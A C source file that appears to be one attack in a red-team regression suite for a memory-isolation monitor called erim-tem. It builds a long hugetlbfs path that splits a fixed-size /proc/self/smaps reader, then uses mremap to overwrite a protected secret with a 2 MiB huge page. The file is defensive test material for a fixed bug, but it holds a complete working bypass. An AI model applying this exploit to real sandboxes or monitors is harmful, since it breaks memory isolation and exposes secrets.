/* SPDX-License-Identifier: MIT */
/* atk_smaps_split.c: a hugetlbfs file whose name splits a fixed-size reader
 * of /proc/PID/smaps, so a 2 MiB hugetlb mapping reads as 4 KiB pages and
 * mremap moves a whole huge page over trusted memory (red team 14,
 * rt_smaps_split).
 *
 * mremap(hp, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, X) of a hugetlb
 * mapping moves the whole huge page: the kernel rounds both lengths up to
 * 2 MiB and replaces [X, X + 2 MiB).  erim-tem widens the judged ranges to
 * the mappings' KernelPageSize, read from smaps.  It used to read smaps
 * with fgets(line, 512): the mapping's name is the path of its file, which
 * the attacker picks (mkdir, rename), and a path that puts "1-2 x" at byte
 * 511 of the header line made the tail come back as the header of a mapping
 * [1, 2); the real mapping's "KernelPageSize: 2048 kB" was counted for that
 * one, and the call was judged at 4 KiB.  Since b589fdd every procfs reader
 * of erim-tem takes whole lines (common/erim_procline.h, unit test
 * tests/tem/test_procline.c).
 *
 * Start-up moves the secret to the third page of a 2 MiB-aligned block of
 * ordinary memory; X is the block, so [X, X + 4 KiB) is untrusted and
 * [X, X + 2 MiB) holds the secret.  The attack checks that its name really
 * splits a 512-byte fgets reader (4 KiB seen) while a whole-line reader sees
 * 2 MiB -- otherwise a refusal would prove nothing (error).
 *
 * Under erim-tem: refused (the mremap fails, the secret is intact).
 * Control without erim-tem: the huge page replaces the trusted pages, the
 * secret reads the attacker's bytes.
 *
 * Huge pages: a hugetlbfs mount listed in /proc/self/mounts, else (with
 * ERIM_TEST_HUGEPAGES=1, set in the guest only, never on a host) one mounted
 * at HUGETLBFS_DIR and left mounted (erim-tem refuses mount(2), so vm_tem.sh
 * runs the control first); with ERIM_TEST_HUGEPAGES=1 free huge pages are
 * reserved (/proc/sys/vm/nr_hugepages) when there are none.  Without a mount
 * or a free huge page: not applicable, a skip that says why. */
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>

#define ATK_STARTUP smaps_startup
#include "atk_common.h"
#include "erim_procline.h"

#define HP (2ul << 20)
#define HUGETLBFS_MAGIC 0x958458f6
#define HUGETLBFS_DIR "/tmp/erim-atk-hugetlbfs"
#define FAKE_TAIL "1-2 x"   /* parses as the header of a mapping [1, 2) */

static uint8_t *block;   /* 2 MiB aligned; the secret at block + 8 KiB */

static void smaps_startup(void)
{
	uint8_t *r, *old = atk_secret;

	r = mmap(NULL, 2 * HP, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (r == MAP_FAILED)
		return;
	block = (uint8_t *)(((uintptr_t)r + HP - 1) & ~(HP - 1));
	/* the key travels with the mapping */
	if (mremap(old, ATK_SECRET_LEN, ATK_SECRET_LEN, MREMAP_MAYMOVE | MREMAP_FIXED, block + 8192) == MAP_FAILED) {
		block = NULL;
		return;
	}
	atk_secret = block + 8192;
}

/* The largest KernelPageSize a smaps reader finds for [S, E) in our own
 * smaps, reading with plain fgets (the old erim-tem, plain = 1) or with
 * erim_proc_line (erim-tem now); the same 512-byte buffer, the same parse. */
static uint64_t smaps_page_size(uint64_t s, uint64_t e, int plain)
{
	char line[512];
	FILE *f = fopen("/proc/self/smaps", "r");
	uint64_t pg = 4096;
	int in = 0;

	if (!f)
		return 0;
	while (plain ? fgets(line, sizeof line, f) : erim_proc_line(line, sizeof line, f)) {
		unsigned long a, b, kb;

		if (sscanf(line, "%lx-%lx ", &a, &b) == 2 && strchr(line, '-') < strchr(line, ' ')) {
			in = a < e && s < b;
			continue;
		}
		if (in && sscanf(line, "KernelPageSize: %lu kB", &kb) == 1 && kb * 1024 > pg)
			pg = kb * 1024;
	}
	fclose(f);
	return pg;
}

/* Column at which the path of the mapping starting at START begins in
 * /proc/self/maps (the smaps header line is the same); -1. */
static int path_column(uint64_t start)
{
	char line[4096];
	FILE *f = fopen("/proc/self/maps", "r");
	int col = -1;

	if (!f)
		return -1;
	while (erim_proc_line(line, sizeof line, f)) {
		unsigned long a;
		char *slash;

		if (sscanf(line, "%lx-", &a) == 1 && a == start && (slash = strchr(line, '/'))) {
			col = (int)(slash - line);
			break;
		}
	}
	fclose(f);
	return col;
}

/* A hugetlbfs mount into MNT: one listed in /proc/self/mounts, else one of
 * our own (guest only).  0, or -1 with the reason said. */
static int find_hugetlbfs(char *mnt, size_t len, int guest)
{
	char line[1024], dir[256], type[64];
	struct statfs sfs;
	FILE *f = fopen("/proc/self/mounts", "r");

	if (f) {
		while (erim_proc_line(line, sizeof line, f))
			if (sscanf(line, "%*s %255s %63s", dir, type) == 2 && strcmp(type, "hugetlbfs") == 0 &&
			    access(dir, W_OK) == 0) {
				snprintf(mnt, len, "%s", dir);
				fclose(f);
				return 0;
			}
		fclose(f);
	}
	if (!guest) {
		atk_say("no writable hugetlbfs mount (ERIM_TEST_HUGEPAGES=1, in the guest only, mounts one)");
		return -1;
	}
	mkdir(HUGETLBFS_DIR, 0700);
	if (mount("none", HUGETLBFS_DIR, "hugetlbfs", 0, NULL) != 0) {
		atk_say("no hugetlbfs mount, and mount(2) of one at %s: %s%s", HUGETLBFS_DIR, strerror(errno),
		        atk_under_tem ? " (erim-tem refuses mount: the control run mounts it first)" : "");
		return -1;
	}
	if (statfs(HUGETLBFS_DIR, &sfs) != 0 || (unsigned long)sfs.f_type != HUGETLBFS_MAGIC) {
		atk_say("%s is not hugetlbfs after the mount", HUGETLBFS_DIR);
		return -1;
	}
	atk_say("mounted hugetlbfs at %s (left mounted for the run under erim-tem)", HUGETLBFS_DIR);
	snprintf(mnt, len, "%s", HUGETLBFS_DIR);
	return 0;
}

static long meminfo(const char *key)
{
	char line[256];
	size_t n = strlen(key);
	long v = -1;
	FILE *f = fopen("/proc/meminfo", "r");

	if (!f)
		return -1;
	while (erim_proc_line(line, sizeof line, f))
		if (strncmp(line, key, n) == 0 && line[n] == ':')
			v = strtol(line + n + 1, NULL, 10);
	fclose(f);
	return v;
}

/* At least one free huge page (reserving some in the guest). */
static int have_huge_page(int guest)
{
	long total = meminfo("HugePages_Total"), free_ = meminfo("HugePages_Free");
	char buf[32];
	int fd, n;

	if (free_ >= 1)
		return 1;
	if (guest && total >= 0 && (fd = open("/proc/sys/vm/nr_hugepages", O_WRONLY)) >= 0) {
		n = snprintf(buf, sizeof buf, "%ld", total + 4);
		if (write(fd, buf, (size_t)n) != n)
			atk_say("could not reserve huge pages: %s", strerror(errno));
		close(fd);
		free_ = meminfo("HugePages_Free");
	}
	if (free_ < 1)
		atk_say("no free huge page (HugePages_Total %ld, HugePages_Free %ld)", meminfo("HugePages_Total"), free_);
	return free_ >= 1;
}

static enum atk_result atk_attack(void)
{
	const char *want = getenv("ERIM_TEST_HUGEPAGES");
	int guest = want && strcmp(want, "1") == 0;
	char mnt[256], d1[320], d2[640], d3[1024], f0[384], f1[1100];
	uint64_t x, pg_split, pg_whole;
	enum atk_result res;
	uint8_t *hp;
	long r;
	int fd, col, l3;

	if (!block) {
		atk_say("start-up could not place the secret in a 2 MiB block");
		return ATK_ERROR;
	}
	x = (uint64_t)(uintptr_t)block;
	if (find_hugetlbfs(mnt, sizeof mnt, guest) != 0 || !have_huge_page(guest))
		return ATK_NA;
	snprintf(d1, sizeof d1, "%s/smaps.%d", mnt, (int)getpid());
	if (mkdir(d1, 0700) != 0) {
		atk_say("mkdir %s: %s", d1, strerror(errno));
		return ATK_ERROR;
	}
	snprintf(f0, sizeof f0, "%s/f", d1);
	if ((fd = open(f0, O_RDWR | O_CREAT | O_TRUNC, 0600)) < 0) {
		atk_say("open %s: %s", f0, strerror(errno));
		rmdir(d1);
		return ATK_ERROR;
	}
	hp = mmap(NULL, HP, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (hp == MAP_FAILED) {
		atk_say("mmap of a huge page: %s", strerror(errno));
		unlink(f0);
		rmdir(d1);
		return ATK_NA;
	}
	memset(hp, 'H', HP);
	/* d1/A{200}/B{l3}/"1-2 x", the "1" at byte 511 of the header line */
	col = path_column((uint64_t)(uintptr_t)hp);
	l3 = 511 - col - (int)strlen(d1) - 1 - 200 - 1 - 1;
	if (col < 0 || l3 < 1 || l3 > 250) {
		atk_say("cannot place the name (path at column %d, %zu bytes of directory)", col, strlen(d1));
		unlink(f0);
		rmdir(d1);
		return ATK_ERROR;
	}
	snprintf(d2, sizeof d2, "%s/%0200d", d1, 0);
	memset(d2 + strlen(d1) + 1, 'A', 200);
	snprintf(d3, sizeof d3, "%s/%0*d", d2, l3, 0);
	memset(d3 + strlen(d2) + 1, 'B', (size_t)l3);
	snprintf(f1, sizeof f1, "%s/%s", d3, FAKE_TAIL);
	res = ATK_ERROR;
	if (mkdir(d2, 0700) != 0 || mkdir(d3, 0700) != 0 || rename(f0, f1) != 0) {
		atk_say("the long name: %s", strerror(errno));
		unlink(f0);
		goto out;
	}
	/* the name must split the old reader and not the new one */
	pg_split = smaps_page_size((uint64_t)(uintptr_t)hp, (uint64_t)(uintptr_t)hp + 4096, 1);
	pg_whole = smaps_page_size((uint64_t)(uintptr_t)hp, (uint64_t)(uintptr_t)hp + 4096, 0);
	atk_say("file name %zu bytes, \"%s\" at byte %d of the smaps header; page size read by fgets(512): %lu KiB, "
	        "by erim_proc_line: %lu KiB",
	        strlen(f1), FAKE_TAIL, col + (int)strlen(f1) - (int)strlen(FAKE_TAIL), (unsigned long)(pg_split / 1024),
	        (unsigned long)(pg_whole / 1024));
	if (pg_split != 4096 || pg_whole != HP) {
		atk_say("the name does not split the smaps line as the attack needs");
		unlink(f1);
		goto out;
	}
	memset(hp + 8192, 'X', 64);   /* what trusted code will find at the secret */
	atk_say("secret at %p; huge page at %p moved (4 KiB asked) to %p", (void *)atk_secret, (void *)hp, (void *)block);
	r = syscall(SYS_mremap, hp, 4096ul, 4096ul, (unsigned long)(MREMAP_MAYMOVE | MREMAP_FIXED), block);
	if (r != (long)x) {
		atk_say("mremap: %s", strerror(errno));
		res = ATK_REFUSED;
	} else {
		volatile uint8_t *s = atk_secret;
		int same = 1, i;

		for (i = 0; i < 64; i++)
			if (s[i] != 'X')
				same = 0;
		atk_say("mremap accepted; untrusted code reads the secret's first bytes without the key: %s",
		        same ? "'X' x 64 (the attacker's huge page stands in trusted memory)" : "other bytes");
		res = atk_secret_intact() ? ATK_REFUSED : ATK_SUCCEEDED;
	}
	unlink(f1);
out:
	rmdir(d3);
	rmdir(d2);
	rmdir(d1);
	return res;
}

static const char *atk_name = "atk_smaps_split";
static int atk_needs_pku = 0;
